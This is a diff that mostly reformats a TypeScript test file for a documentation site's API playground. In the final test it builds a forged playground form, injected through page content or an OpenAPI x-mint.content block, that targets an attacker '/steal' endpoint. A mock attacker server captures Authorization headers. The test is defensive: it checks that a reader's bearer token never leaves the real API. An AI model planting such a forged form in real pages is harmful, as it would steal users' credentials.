@@ -32,8 +32,13 @@ const SPEC = {
           { name: 'notify', in: 'query', schema: { type: 'boolean' } },
           { name: 'Acme-Version', in: 'header', schema: { type: 'string', default: '2025-01-15' } },
         ],
-        requestBody: { required: true, content: { 'application/json': { schema: { type: 'object', required: ['text'], properties: { text: { type: 'string', example: 'Looks good' } } } } } },
-        responses: { '201': { description: 'The comment.', content: { 'application/json': { schema: { type: 'object', properties: { id: { type: 'string' } } } } } } },
+        requestBody: {
+          required: true,
+          content: { 'application/json': { schema: { type: 'object', required: ['text'], properties: { text: { type: 'string', example: 'Looks good' } } } } },
+        },
+        responses: {
+          '201': { description: 'The comment.', content: { 'application/json': { schema: { type: 'object', properties: { id: { type: 'string' } } } } } },
+        },
       },
     },
   },
@@ -93,7 +98,14 @@ after(async () => {
 
 /** The page as a static document, the way the export writes pages (scripts as files, no inline script). */
 async function servePage(api: Record<string, unknown>, content = 'Adds a comment.', csp = CSP): Promise<void> {
-  const docs = { name: 'Acme', favicon: 'https://acme.dev/favicon.svg', colors: { primary: '#0B6E4F' }, navigation: [{ group: 'API', pages: ['comment'] }], openapi: 'openapi.json', api };
+  const docs = {
+    name: 'Acme',
+    favicon: 'https://acme.dev/favicon.svg',
+    colors: { primary: '#0B6E4F' },
+    navigation: [{ group: 'API', pages: ['comment'] }],
+    openapi: 'openapi.json',
+    api,
+  };
   const page = `---\ntitle: "Add a comment"\ndescription: "Add a comment to a note."\nopenapi: "POST /notes/{note_id}/comments"\n---\n\n${content}\n`;
   const ws = new MemoryWorkspace({ 'docs.json': JSON.stringify(docs), 'openapi.json': JSON.stringify(SPEC), 'comment.mdx': page }, ROOT);
   const project = new Project(ws, [ROOT]);
@@ -145,7 +157,11 @@ async function storageIsEmpty(page: Page): Promise<void> {
 }
 
 test('basic auth: username (pre-filled with inputPrefix) and password become Authorization: Basic; parameters and body are sent; the response is shown', async () => {
-  await servePage({ baseUrl: [`${origin}/api`, `${origin}/sandbox`], auth: { method: 'basic', name: 'username:password', inputPrefix: 'acme_' }, playground: { mode: 'show' } });
+  await servePage({
+    baseUrl: [`${origin}/api`, `${origin}/sandbox`],
+    auth: { method: 'basic', name: 'username:password', inputPrefix: 'acme_' },
+    playground: { mode: 'show' },
+  });
   const { page, errors } = await open();
   try {
     assert.equal(await page.inputValue('[data-dw-pg-field="auth:username"]'), 'acme_', 'the username input starts with inputPrefix');
@@ -232,7 +248,11 @@ test('simple and hide modes render no form, so there is nothing to send', async 
 });
 
 /** Exports a copy of `dir` with its API pointed at this server (`setBaseUrls` edits docs.json); runs `check` on the exported page. */
-async function withExportedCopy(dir: string, setBaseUrls: (docs: { api: { baseUrl?: string[]; mdx?: { server?: string[] } } }, urls: string[]) => void, check: () => Promise<void>): Promise<void> {
+async function withExportedCopy(
+  dir: string,
+  setBaseUrls: (docs: { api: { baseUrl?: string[]; mdx?: { server?: string[] } } }, urls: string[]) => void,
+  check: () => Promise<void>,
+): Promise<void> {
   const tmp = mkdtempSync(path.join(tmpdir(), 'docwright-playground-'));
   try {
     const site = path.join(tmp, 'site');
@@ -241,7 +261,10 @@ async function withExportedCopy(dir: string, setBaseUrls: (docs: { api: { baseUr
     setBaseUrls(docs, [`${origin}/api`, `${origin}/sandbox`]);
     writeFileSync(path.join(site, 'docs.json'), JSON.stringify(docs, null, 2));
     const err: string[] = [];
-    const code = await runExport({ dir: site, out: path.join(tmp, 'out'), strict: false, jobs: 1 }, { out: () => undefined, err: (m) => err.push(m), cwd: tmp });
+    const code = await runExport(
+      { dir: site, out: path.join(tmp, 'out'), strict: false, jobs: 1 },
+      { out: () => undefined, err: (m) => err.push(m), cwd: tmp },
+    );
     assert.equal(code, 0, err.join('\n'));
     exported = path.join(tmp, 'out');
     await check();
@@ -276,11 +299,19 @@ async function createNoteWithBasicAuth(pagePath: string, prefix: string): Promis
 
 test('the exported example site: the playground of a page generated from its OpenAPI file sends the request with Basic auth and shows the response', async () => {
   // The current format's api.mdx.server and api.mdx.auth; it has no prefix for the credential field.
-  await withExportedCopy(EXAMPLE_SITE, (docs, urls) => (docs.api.mdx!.server = urls), () => createNoteWithBasicAuth('api-reference/notes/create-a-note.html', ''));
+  await withExportedCopy(
+    EXAMPLE_SITE,
+    (docs, urls) => (docs.api.mdx!.server = urls),
+    () => createNoteWithBasicAuth('api-reference/notes/create-a-note.html', ''),
+  );
 });
 
 test('the exported classic example site: the playground of its API page sends the request with Basic auth and shows the response', async () => {
-  await withExportedCopy(CLASSIC_SITE, (docs, urls) => (docs.api.baseUrl = urls), () => createNoteWithBasicAuth('api-reference/notes/create-note.html', 'acme_'));
+  await withExportedCopy(
+    CLASSIC_SITE,
+    (docs, urls) => (docs.api.baseUrl = urls),
+    () => createNoteWithBasicAuth('api-reference/notes/create-note.html', 'acme_'),
+  );
 });
 
 /**
@@ -290,9 +321,17 @@ test('the exported classic example site: the playground of its API page sends th
  */
 function forgedForm(attacker: string): string {
   const form = [
-    'data-playground=""', 'data-method="POST"', 'data-path="/notes/{note_id}/comments"', 'data-auth="bearer"', 'data-credentials="include"',
-    `data-dw-playground='${JSON.stringify(['POST', '/notes/{note_id}/comments', [`${origin}/api`]])}'`, 'data-dw-pg-method="POST"', 'data-dw-pg-path="/notes/{note_id}/comments"',
-    'data-dw-pg-auth="bearer"', 'data-dw-pg-credentials="include"', `data-dw-pg-bases='${JSON.stringify([`${attacker}/steal`])}'`,
+    'data-playground=""',
+    'data-method="POST"',
+    'data-path="/notes/{note_id}/comments"',
+    'data-auth="bearer"',
+    'data-credentials="include"',
+    `data-dw-playground='${JSON.stringify(['POST', '/notes/{note_id}/comments', [`${origin}/api`]])}'`,
+    'data-dw-pg-method="POST"',
+    'data-dw-pg-path="/notes/{note_id}/comments"',
+    'data-dw-pg-auth="bearer"',
+    'data-dw-pg-credentials="include"',
+    `data-dw-pg-bases='${JSON.stringify([`${attacker}/steal`])}'`,
   ].join(' ');
   return [
     `<div id="forged" ${form}>`,
@@ -308,7 +347,11 @@ test('a playground form forged by page content or by an OpenAPI x-mint.content b
   const attacker = await serve((req, res) => {
     attackerSeen.push({ method: req.method ?? '', url: req.url ?? '', authorization: req.headers.authorization });
     // Lets every cross-origin request through, so that only the page's scripts decide what is sent.
-    res.writeHead(200, { 'Access-Control-Allow-Origin': '*', 'Access-Control-Allow-Headers': 'authorization, content-type', 'Access-Control-Allow-Methods': 'GET, POST' });
+    res.writeHead(200, {
+      'Access-Control-Allow-Origin': '*',
+      'Access-Control-Allow-Headers': 'authorization, content-type',
+      'Access-Control-Allow-Methods': 'GET, POST',
+    });
     res.end('{}');
   });
   // As the preview allows: any local server may be called.
@@ -319,7 +362,11 @@ test('a playground form forged by page content or by an OpenAPI x-mint.content b
     // A page generated from the spec, its x-mint.content holding the forged form.
     const spec = structuredClone(SPEC);
     Object.assign(spec.paths['/notes/{note_id}/comments'].post, { 'x-mint': { content: forged } });
-    const docs = { name: 'Acme', api: { mdx: { server: `${origin}/api`, auth: { method: 'bearer' } } }, navigation: { groups: [{ group: 'API', openapi: 'openapi.json' }] } };
+    const docs = {
+      name: 'Acme',
+      api: { mdx: { server: `${origin}/api`, auth: { method: 'bearer' } } },
+      navigation: { groups: [{ group: 'API', openapi: 'openapi.json' }] },
+    };
     const ws = new MemoryWorkspace({ 'docs.json': JSON.stringify(docs), 'openapi.json': JSON.stringify(spec) }, ROOT);
     const project = new Project(ws, [ROOT]);
     await project.scan();
@@ -327,17 +374,38 @@ test('a playground form forged by page content or by an OpenAPI x-mint.content b
     assert.ok(out, 'the generated page renders');
     serveRendered(out, csp);
   };
-  const other = new Project(new MemoryWorkspace({ 'docs.json': JSON.stringify({ name: 'Acme', favicon: 'https://acme.dev/favicon.svg', colors: { primary: '#0B6E4F' }, navigation: [{ group: 'G', pages: ['other'] }] }), 'other.mdx': `---\ntitle: Other\n---\n\n${forged}\n` }, ROOT), [ROOT]);
+  const other = new Project(
+    new MemoryWorkspace(
+      {
+        'docs.json': JSON.stringify({
+          name: 'Acme',
+          favicon: 'https://acme.dev/favicon.svg',
+          colors: { primary: '#0B6E4F' },
+          navigation: [{ group: 'G', pages: ['other'] }],
+        }),
+        'other.mdx': `---\ntitle: Other\n---\n\n${forged}\n`,
+      },
+      ROOT,
+    ),
+    [ROOT],
+  );
   await other.scan();
   const nextPage = (await renderPreview(other, `${ROOT}/other.mdx`, `${origin}/site/`))!.body;
   try {
-    for (const [where, setUp] of [['page content', () => servePage(api, forged, csp)], ['x-mint.content', fromSpec]] as const) {
+    for (const [where, setUp] of [
+      ['page content', () => servePage(api, forged, csp)],
+      ['x-mint.content', fromSpec],
+    ] as const) {
       await setUp();
       const { page, errors } = await open();
       const outside: string[] = [];
-      page.on('request', (r) => void r.allHeaders().then((h) => {
-        if (h.authorization && !r.url().startsWith(`${origin}/api/`)) outside.push(`${r.method()} ${r.url()}`);
-      }));
+      page.on(
+        'request',
+        (r) =>
+          void r.allHeaders().then((h) => {
+            if (h.authorization && !r.url().startsWith(`${origin}/api/`)) outside.push(`${r.method()} ${r.url()}`);
+          }),
+      );
       try {
         assert.equal(await page.locator('#forged').count(), 1, `${where}: the forged form is on the page`);
         await page.fill('.dw-playground input[type="password"]', 'SECRET_TOKEN');
@@ -348,12 +416,18 @@ test('a playground form forged by page content or by an OpenAPI x-mint.content b
         assert.equal(seen.length, 1, `${where}: ${JSON.stringify(shown)}`);
         assert.equal(seen[0].headers.authorization, 'Bearer SECRET_TOKEN', `${where}: the real form sends to the API`);
         // The preview puts the next page into the same document: a page holding only the forged form.
-        await page.evaluate((html) => { document.getElementById('dw-app')!.innerHTML = html; }, nextPage);
+        await page.evaluate((html) => {
+          document.getElementById('dw-app')!.innerHTML = html;
+        }, nextPage);
         await page.click('#forged-send');
         await page.click('#forged-send');
         // A request of the reader's own, after the clicks, proves the clicks' effects would have been seen by now.
         await page.evaluate((url) => fetch(url).then((r) => r.text()), `${attacker.origin}/probe`);
-        assert.deepEqual(attackerSeen.filter((r) => r.url !== '/probe'), [], `${where}: the attacker's server received a request`);
+        assert.deepEqual(
+          attackerSeen.filter((r) => r.url !== '/probe'),
+          [],
+          `${where}: the attacker's server received a request`,
+        );
         assert.deepEqual(outside, [], `${where}: Authorization sent outside the API's base URL`);
         assert.deepEqual(errors, []);
       } finally {
